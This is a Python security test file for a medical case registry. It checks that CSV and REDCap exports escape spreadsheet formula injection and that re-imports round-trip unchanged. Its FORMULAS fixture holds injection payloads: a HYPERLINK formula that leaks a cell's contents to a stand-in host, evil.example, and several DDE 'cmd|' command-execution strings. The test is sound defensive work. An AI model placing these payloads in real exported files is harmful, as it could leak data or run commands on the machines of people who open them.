"""Test finding 3 (CSV formula injection) through the real server and ``livermet registry export``.

A case stored through the server's API with formulas in its free text is exported as CSV and
REDCap; no cell of either file begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return (the
OWASP rule), and importing the files gives the stored case back unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from livermet.case.model import Case
from livermet.cli.main import app as cli
from livermet.interchange import cases_from_csv, import_records_csv
from livermet.interchange.cells import FORMULA_TRIGGERS, NUMBER
from tests.security.conftest import LiveServer

FORMULAS = {
    "notes": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "histology_variant": "+cmd|' /C calc'!A0",
    "comorbidity": "@SUM(1+1)*cmd|' /C calc'!A0",
    "procedure_name": "=1+1",
    "status": "-2+3+cmd|' /C calc'!A0",
    "complication": "\t=1+1",
    "treatment": "\r=1+1",
    "quoted": "'=1+1",
}


@pytest.fixture(scope="module")
def stored(live: LiveServer) -> dict[str, Any]:
    """Store the seed case with formulas in its free text at alpha through the API; return it."""
    with live.api("site_admin_a") as api:
        doc: dict[str, Any] = api.get("/api/v1/cases/seed-case").json()["case"]
        doc["id"] = "formula-case"
        doc["notes"] = FORMULAS["notes"]
        doc["primary_tumour"]["histology_variant"] = FORMULAS["histology_variant"]
        doc["patient"]["comorbidities"] = [FORMULAS["comorbidity"]]
        doc["procedures"][0]["name"] = FORMULAS["procedure_name"]
        doc["procedures"][0]["complications"] = [
            {"description": FORMULAS["complication"], "treatment": FORMULAS["treatment"]}
        ]
        when = {"after": "liver-resection", "months": 6}
        doc["follow_up"] = [
            *doc.get("follow_up", []),
            {"kind": "last_contact", "when": when, "status": FORMULAS["status"]},
            {"kind": "last_contact", "when": when, "status": FORMULAS["quoted"]},
        ]
        response = api.post("/api/v1/cases", json={"case": doc})
        assert response.status_code == 201, response.text
        case: dict[str, Any] = response.json()["case"]
    return case


def _export(live: LiveServer, tmp_path: Path, fmt: str) -> str:
    out = tmp_path / f"export-{fmt}.csv"
    args = ["registry", "export", "--format", fmt, "--identified", "-o", str(out)]
    result = CliRunner().invoke(
        cli,
        [*args, "--site", "alpha", "--db", live.db_url],
        env={"LIVERMET_TOKEN": live.tokens["site_admin_a"]},
    )
    assert result.exit_code == 0, result.output
    return out.read_text(encoding="utf-8")


def _dangerous_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as formulas (a plain number such as -2.5 is a number)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_TRIGGERS) and not NUMBER.match(cell)
    ]


@pytest.mark.parametrize("fmt", ["csv", "redcap"])
def test_exports_hold_no_formula_and_read_back_losslessly(
    live: LiveServer, stored: dict[str, Any], tmp_path: Path, fmt: str
) -> None:
    text = _export(live, tmp_path, fmt)
    for payload in ("HYPERLINK", "cmd|", "SUM(1+1)", "=1+1"):
        assert payload in text  # the text is kept, as text
    assert _dangerous_cells(text) == []
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    escaped = {"'" + FORMULAS["notes"], "'" + FORMULAS["histology_variant"]}
    if fmt == "redcap":  # every text has its own cell (in the CSV, lists are JSON cells)
        escaped |= {"'" + FORMULAS[k] for k in ("comorbidity", "procedure_name", "status")}
        escaped |= {"''=1+1", '"\\t=1+1"', '"\\r=1+1"'}
    assert escaped <= cells
    read = cases_from_csv(text) if fmt == "csv" else import_records_csv(text)
    back = next(c for c in read if c.id == "formula-case")
    assert back == Case.model_validate(stored)


@pytest.mark.parametrize("fmt", ["csv", "redcap"])
def test_the_cli_imports_its_own_export_unchanged(
    live: LiveServer, stored: dict[str, Any], tmp_path: Path, fmt: str
) -> None:
    text = _export(live, tmp_path, fmt)
    path = tmp_path / f"reimport-{fmt}.csv"
    path.write_text(text, encoding="utf-8")
    result = CliRunner().invoke(
        cli,
        ["registry", "import", str(path), "--format", fmt, "--merge", "--db", live.db_url],
        env={"LIVERMET_TOKEN": live.tokens["site_admin_a"]},
    )
    assert result.exit_code == 0, result.output
    with live.api("site_admin_a") as api:
        assert api.get("/api/v1/cases/formula-case").json()["case"] == stored
